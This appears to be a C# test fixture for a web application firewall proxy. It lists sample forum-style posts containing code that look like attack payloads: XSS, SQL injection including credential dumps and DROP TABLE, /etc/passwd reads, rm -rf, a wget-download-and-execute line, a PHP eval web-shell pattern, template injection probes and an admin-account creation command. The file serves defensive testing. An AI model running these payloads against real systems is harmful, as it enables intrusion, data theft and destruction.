namespace WafOperator.Proxy.Tests.CodeFields;

/// <summary>Posts with code as people write them: two of each language, the first to learn from.</summary>
internal static class CodePosts
{
    public static IReadOnlyList<string> First { get; } =
    [
        "<p>Put this into the footer:</p>\n<script>document.getElementById('y').innerHTML = 'now';</script>\n",
        "To find them run\n\nSELECT id, name FROM users WHERE name LIKE '%a%' UNION SELECT 1, 2 -- both\n",
        "Clean up with\n\nfind /var/log -name '*.gz' | xargs rm -f; cat /etc/passwd | cut -d: -f1\n",
        "<?php\n$id = $_GET['id'];\necho shell_exec('ls ' . escapeshellarg($id));\nsystem('whoami');\n?>\n",
        "import os\nimport subprocess\nos.system('id; uname -a')\nsubprocess.Popen(['sh', '-c', 'cat /etc/hosts'])\n",
        "Runtime rt = Runtime.getRuntime();\nrt.exec(\"cmd /c dir\");\nClass.forName(name).newInstance();\n",
        "const cp = require('child_process');\ncp.exec('ls -la /tmp && rm -rf /tmp/x', (e, out) => alert(out));\n",
        "{% for item in items %}{{ item.__class__.__mro__[1].__subclasses__() }}{% endfor %} in a template\n",
        "system(\"ls -l\");\nexec(\"rm -rf #{dir}\")\nputs `uname -a` # from a rake task\n",
        "Get-ChildItem C:\\Windows | % { $_.Name }; Invoke-Expression $cmd; powershell -enc $x # nightly\n",
    ];

    public static IReadOnlyList<string> Others { get; } =
    [
        "<h2>Widget</h2>\n<img src=x onerror=\"this.src='/none.png'\">\n<script src=\"/js/app.js\"></script> done\n",
        "DELETE FROM sessions WHERE id IN (SELECT id FROM old) OR 1=1; DROP TABLE old; -- run at night\n",
        "#!/bin/sh\nwget -q http://example.org/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh && /tmp/x.sh | tee /tmp/log\n",
        "<?php\ninclude 'config.php';\neval(base64_decode($_POST['x']));\npassthru(\"ls $dir\");\n?>\n",
        "def run(cmd):\n    return eval(compile(cmd, '<x>', 'exec'))\n__import__('os').popen('id').read()\n",
        "ProcessBuilder b = new ProcessBuilder(\"sh\", \"cat /etc/passwd\");\nb.start(); // java.lang.Runtime\n",
        "window.location = 'javascript:alert(1)';\ndocument.cookie = 'a=b';\nfetch('/x').then(r => eval(r));\n",
        "Use <%= File.open('/etc/passwd').read %> or ${7*7} and #{7*7} in views, never {{7*7}} alone\n",
        "SELECT CONCAT(user, 0x3a, password) FROM mysql.user INTO OUTFILE '/tmp/out' LIMIT 1; -- backup\n",
        "net user admin /add & type C:\\Windows\\win.ini | findstr /i fonts; ping -n 1 127.0.0.1 && dir c:\\\n",
    ];
}
